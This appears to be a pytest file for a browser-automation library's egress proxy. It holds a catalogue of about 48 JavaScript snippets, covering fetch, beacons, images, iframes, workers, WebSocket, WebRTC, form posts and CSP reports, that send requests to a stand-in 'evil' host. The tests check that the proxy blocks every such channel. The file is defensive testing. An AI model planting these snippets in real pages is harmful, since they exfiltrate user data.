"""A browser behind the proxy reaches what it may, and nothing else by any way that a page has."""

import asyncio
import typing
from collections.abc import AsyncGenerator
from pathlib import Path

import pytest
import pytest_asyncio
from clickwright.environments import BrowserEnvironment, Chromium
from clickwright.environments.browser.egress import Egress
from clickwright.environments.browser.options import BrowserOptions, Proxy
from clickwright.environments.environment import Destination, Judge
from clickwright.errors import EnvironmentLost, UsageError
from clickwright.tools import Navigate, Task

if typing.TYPE_CHECKING:
    from conftest import Site

in_browser = pytest.mark.asyncio(loop_scope="session")

# Every way that a page has to ask for something. None may arrive at {evil}; {via} leads there from an allowed host.
CHANNELS = {
    "fetch": "fetch('{evil}/')",
    "fetch, no cors": "fetch('{evil}/', {mode: 'no-cors', method: 'POST', body: 'x'})",
    "fetch, redirected": "fetch('{via}/', {mode: 'no-cors'})",
    "request": "let r = new XMLHttpRequest; r.open('GET', '{evil}/'); r.send()",
    "beacon": "navigator.sendBeacon('{evil}/', 'x')",
    "keepalive": "fetch('{evil}/', {mode: 'no-cors', keepalive: true})",
    "picture": "new Image().src = '{evil}/x.png'",
    "picture, redirected": "new Image().src = '{via}/x.png'",
    "picture set": "add('img', {srcset: '{evil}/x.png 1x'})",
    "video": "add('video', {src: '{evil}/x.mp4', autoplay: ''})",
    "poster": "add('video', {poster: '{evil}/x.png'})",
    "audio": "add('audio', {src: '{evil}/x.mp3', autoplay: ''})",
    "track": "add('video', {}).append(make('track', {src: '{evil}/x.vtt', default: ''}))",
    "script": "add('script', {src: '{evil}/x.js'})",
    "script, redirected": "add('script', {src: '{via}/x.js'})",
    "module": "import('{evil}/x.js').catch(() => 0)",
    "style": "add('link', {rel: 'stylesheet', href: '{evil}/x.css'})",
    "style, imported": "add('style', {}).textContent = '@import url({evil}/x.css)'",
    "background": "add('p', {style: 'background: url({evil}/x.png)'}).textContent = 'x'",
    "font": "add('style', {}).textContent = '@font-face {font-family: e; src: url({evil}/x.woff)} i {font-family: e}';"
    " add('i', {}).textContent = 'x'",
    "frame": "add('iframe', {src: '{evil}/'})",
    "frame, redirected": "add('iframe', {src: '{via}/'})",
    "frame, refreshed": "add('iframe', {srcdoc: '<meta http-equiv=refresh content=\"0;url={evil}/\">'})",
    "frame of data": "add('iframe', {src: 'data:text/html,<img src={evil}/x.png>'})",
    "object": "add('object', {data: '{evil}/x.svg', type: 'image/svg+xml'})",
    "embed": "add('embed', {src: '{evil}/x.svg', type: 'image/svg+xml'})",
    "icon": "add('link', {rel: 'icon', href: '{evil}/x.ico'})",
    "prefetch": "add('link', {rel: 'prefetch', href: '{evil}/'})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: '{evil}/x.png'})",
    "module, preloaded": "add('link', {rel: 'modulepreload', href: '{evil}/x.js'})",
    "connection": "add('link', {rel: 'preconnect', href: '{evil}/'})",
    "speculation": "add('script', {type: 'speculationrules'}).textContent = "
    "JSON.stringify({prerender: [{source: 'list', urls: ['{evil}/']}]})",
    "manifest": "add('link', {rel: 'manifest', href: '{evil}/x.json'})",
    "events": "new EventSource('{evil}/')",
    "socket": "new WebSocket('{evil}/'.replace('http', 'ws'))",
    "transport": "try { new WebTransport('{evil}/'.replace('http:', 'https:')) } catch {}",
    "worker": "new Worker(own(`fetch('{evil}/', {mode: 'no-cors'})`))",
    "shared worker": "new SharedWorker(own(`fetch('{evil}/', {mode: 'no-cors'})`))",
    "worker, importing": "new Worker(own(`importScripts('{evil}/x.js')`))",
    "form": "let f = add('form', {action: '{evil}/', method: 'post', target: 'inner'});"
    " add('iframe', {name: 'inner'}); f.submit()",
    "ping": "let a = add('a', {href: '#', ping: '{evil}/'}); a.click()",
    "new window": "window.open('{evil}/')",
    "new window, redirected": "window.open('{via}/')",
    "peer": "let p = new RTCPeerConnection({iceServers: [{urls: '{stun}'}]}); p.createDataChannel('x');"
    " p.createOffer().then((o) => p.setLocalDescription(o))",
    "report": "add('iframe', {srcdoc: '<meta http-equiv=Content-Security-Policy content=\"img-src none;"
    " report-uri {evil}/\"><img src=/x.png>'})",
    "drawing": "add('p', {}).innerHTML = '<svg><image href=\"{evil}/x.png\"/><use href=\"{evil}/x.svg#a\"/></svg>'",
    "the page itself": "setTimeout(() => location = '{evil}/', 800)",
}
TOOLS = """
const make = (kind, given) => { let e = document.createElement(kind);
  for (let name in given) e.setAttribute(name, given[name]); return e; };
const add = (kind, given) => document.body.appendChild(make(kind, given));
const own = (code) => URL.createObjectURL(new Blob([code], {type: 'text/javascript'}));
"""


class Evil(asyncio.DatagramProtocol):
    """Notes what arrives: the first part of each path, "" for a connection without a request, "udp" for datagrams."""

    def __init__(self) -> None:
        self.arrived: set[str] = set()

    async def on_connection(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        path = (await reader.readline()).split(b" ")[1:2]
        self.arrived.add(path[0].decode().split("/")[1] if path else "")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        writer.close()

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.arrived.add("udp")


@pytest_asyncio.fixture(loop_scope="session")
async def evil() -> AsyncGenerator[tuple[Evil, int, int]]:
    """Where nothing may arrive: what notes it, its port for connections and its port for datagrams."""
    noted = Evil()
    server = await asyncio.start_server(noted.on_connection, "127.0.0.1", 0)
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(lambda: noted, local_addr=("127.0.0.1", 0))
    yield noted, server.sockets[0].getsockname()[1], transport.get_extra_info("sockname")[1]
    server.close()
    transport.close()


def only(*ports: int) -> Judge:
    return lambda to: "" if to.host in ("127.0.0.1", "localhost") and to.port in ports else "it is not of this run"


def hostile(site: "Site", evil_port: int, stun_port: int) -> str:
    """The URL of a page that tries every way; each asks for a path of its own."""
    codes: list[str] = []
    for number, code in enumerate(CHANNELS.values()):
        there = f"http://127.0.0.1:{evil_port}/{number}"
        site.redirects[f"/away/{number}"] = f"{there}/"
        where = {"{evil}": there, "{via}": site.url(f"/away/{number}"), "{stun}": f"stun:127.0.0.1:{stun_port}"}
        for mark, url in where.items():
            code = code.replace(mark, url)
        codes.append(f"try {{ (() => {{ {code} }})() }} catch (e) {{ console.log(e) }}")
    return site.put(f"<script>{TOOLS} window.onload = () => {{ {' '.join(codes)} }}</script>")


async def visit(environment: BrowserEnvironment, url: str) -> None:
    """Open the page, and let all of its requests begin."""
    await environment.reset(Task(goal="look", start_url=url))
    await asyncio.sleep(2.5)
    await environment.observe()
    await environment.close()


@in_browser
async def test_no_way_of_a_page_leads_to_where_it_may_not(
    site: "Site", evil: tuple[Evil, int, int], chromium: Chromium
) -> None:
    noted, *ports = evil
    refused: list[Destination] = []

    def judge(to: Destination) -> str:
        said = only(site.server_port)(to)
        refused.extend([to] * bool(said))
        return said

    environment = BrowserEnvironment(chromium=chromium)
    environment.confine(judge)
    await visit(environment, hostile(site, *ports))
    assert noted.arrived == set()
    assert len(refused) > 30
    assert {to.port for to in refused} == {ports[0]}


@in_browser
async def test_the_same_ways_lead_there_where_nothing_keeps_them(
    site: "Site", evil: tuple[Evil, int, int], chromium: Chromium
) -> None:
    """Otherwise the test above would prove nothing."""
    noted, *ports = evil
    await visit(BrowserEnvironment(chromium=chromium), hostile(site, *ports))
    arrived = {number for number in range(len(CHANNELS)) if str(number) in noted.arrived}
    assert len(arrived) >= 33, [name for number, name in enumerate(CHANNELS) if number not in arrived]


@in_browser
async def test_what_cannot_be_kept_is_refused(chromium: Chromium, site: "Site") -> None:
    """A page of the user's, a browser that runs elsewhere, one behind a proxy of its own."""
    own = BrowserEnvironment(chromium=chromium)
    await own.reset(Task(goal="look", start_url=site.put("<p>x</p>")))
    behind = BrowserOptions(proxy=Proxy(server="http://127.0.0.1:1"))
    for environment in (
        BrowserEnvironment.around(own.window.active.page),
        BrowserEnvironment(chromium=Chromium.connect("http://127.0.0.1:1")),
        BrowserEnvironment(chromium=Chromium.connect("http://127.0.0.1:1", own_context=True)),
        BrowserEnvironment(chromium=chromium, options=behind),
    ):
        with pytest.raises(UsageError, match="cannot be kept"):
            environment.confine(lambda to: "")
    await own.close()


@in_browser
@pytest.mark.parametrize("is_lasting", [False, True])
async def test_what_is_open_already_is_opened_anew(
    is_lasting: bool, evil: tuple[Evil, int, int], site: "Site", tmp_path: Path
) -> None:
    noted, port, _ = evil
    environment = BrowserEnvironment(user_data_dir=tmp_path if is_lasting else None)
    task = Task(goal="look", start_url=site.put(f"<p>x</p><img src=http://127.0.0.1:{port}/before>"))
    await environment.reset(task)
    assert noted.arrived == {"before"}
    environment.confine(only(site.server_port))
    with pytest.raises(EnvironmentLost, match="opened anew"):
        await environment.observe()
    site.put(f"<p>x</p><img src=http://127.0.0.1:{port}/after>")
    await environment.reset(task)
    await environment.close()
    assert noted.arrived == {"before"}


@in_browser
async def test_a_place_that_may_not_be_reached_is_told(chromium: Chromium, site: "Site") -> None:
    environment = BrowserEnvironment(chromium=chromium)
    environment.confine(only(site.server_port))
    await environment.reset(Task(goal="look", start_url=site.put("<p>x</p>")))
    after = await environment.step(Navigate(url="https://127.0.0.1:8443/"))
    assert "the proxy does not let it through" in str(after.error)
    await environment.close()


async def asked(egress: Egress, *heads: bytes) -> bytes:
    """All that the proxy answers to bytes that are sent one after the other."""
    reader, writer = await asyncio.open_connection("127.0.0.1", int(egress.url.rpartition(":")[2]))
    for head in heads:
        writer.write(head)
        await writer.drain()
    writer.write_eof()
    try:
        return await asyncio.wait_for(reader.read(), 5)
    finally:
        writer.close()


async def test_a_request_and_a_tunnel_go_through(site: "Site") -> None:
    site.put("<p>Pears</p>", "/a")
    there = f"127.0.0.1:{site.server_port}"
    async with Egress(only(site.server_port)) as egress:
        plain = await asked(egress, f"GET http://{there}/a?x=1 HTTP/1.1\r\nHost: other\r\nProxy-X: y\r\n\r\n".encode())
        tunnel = f"CONNECT {there} HTTP/1.1\r\n\r\n".encode()
        through = await asked(egress, tunnel, f"GET /a HTTP/1.1\r\nHost: {there}\r\nConnection: close\r\n\r\n".encode())
        assert not egress.refused
    assert plain.startswith(b"HTTP/1.0 200")
    assert plain.count(b"Connection: close") == 1
    assert b"Pears" in plain
    assert through.startswith(b"HTTP/1.1 200 Connection established\r\n\r\nHTTP/1.0 200")
    assert b"Pears" in through


@pytest.mark.parametrize(
    "head",
    [
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET http://a@127.0.0.1/ HTTP/1.1\r\n\r\n",
        b"GET ftp://127.0.0.1/ HTTP/1.1\r\n\r\n",
        b"GET http://127.0.0.1/ HTTP/2\r\n\r\n",
        b"GET  http://127.0.0.1/ HTTP/1.1\r\n\r\n",
        b"CONNECT /etc/passwd HTTP/1.1\r\n\r\n",
        b"CONNECT  HTTP/1.1\r\n\r\n",
        b"\xff\xfe\r\n\r\n",
        b"\r\n\r\n",
    ],
)
async def test_what_is_no_request_goes_nowhere(head: bytes) -> None:
    async with Egress(lambda to: "" if to.port == 1 else "asked") as egress:
        assert (await asked(egress, head)).startswith(b"HTTP/1.1 400")
        assert egress.refused == []


async def test_a_head_without_an_end_is_cut_off() -> None:
    async with Egress(lambda to: "never") as egress:
        assert await asked(egress, b"GET http://127.0.0.1/ HTTP/1.1\r\n", b"X: y\r\n" * 20_000) == b""


@pytest.mark.parametrize("target", ["http://rebound.test/", "http://REBOUND.test:80/x"])
async def test_a_name_is_judged_by_where_it_leads_and_looked_up_once(target: str, site: "Site") -> None:
    """A name that is allowed, and leads to this machine."""
    asked_for: list[str] = []

    async def lookup(host: str, port: int) -> list[str]:
        asked_for.append(host)
        return ["127.0.0.1"]

    def judge(to: Destination) -> str:
        return "it leads into a private network" if "127.0.0.1" in to.addresses else ""

    async with Egress(judge, lookup=lookup) as egress:
        answer = await asked(egress, f"GET {target} HTTP/1.1\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 403")
    assert b"private network" in answer
    assert asked_for == ["rebound.test"]


async def test_a_name_that_is_refused_is_not_looked_up() -> None:
    async def lookup(host: str, port: int) -> list[str]:
        raise AssertionError(f"{host} was looked up: a name server would have been told of it")

    async with Egress(lambda to: "no", lookup=lookup) as egress:
        assert (await asked(egress, b"CONNECT secret.evil.test:443 HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 403")


async def test_hosts_that_do_not_answer_are_told() -> None:
    async def nowhere(host: str, port: int) -> list[str]:
        return []

    async with Egress(lambda to: "", lookup=nowhere) as egress:
        assert (await asked(egress, b"CONNECT a.test:443 HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 502")
    async with Egress(lambda to: "") as egress:
        assert (await asked(egress, b"CONNECT 127.0.0.1:1 HTTP/1.1\r\n\r\n")).startswith(b"HTTP/1.1 502")


async def test_closing_ends_what_is_open(site: "Site") -> None:
    egress = Egress(lambda to: "")
    await egress.start()
    reader, writer = await asyncio.open_connection("127.0.0.1", int(egress.url.rpartition(":")[2]))
    writer.write(f"CONNECT 127.0.0.1:{site.server_port} HTTP/1.1\r\n\r\n".encode())
    assert (await reader.readline()).startswith(b"HTTP/1.1 200")
    await egress.close()
    await egress.close()
    assert await asyncio.wait_for(reader.read(), 5) in (b"\r\n", b"")
    writer.close()
    with pytest.raises(EnvironmentLost):
        assert egress.url
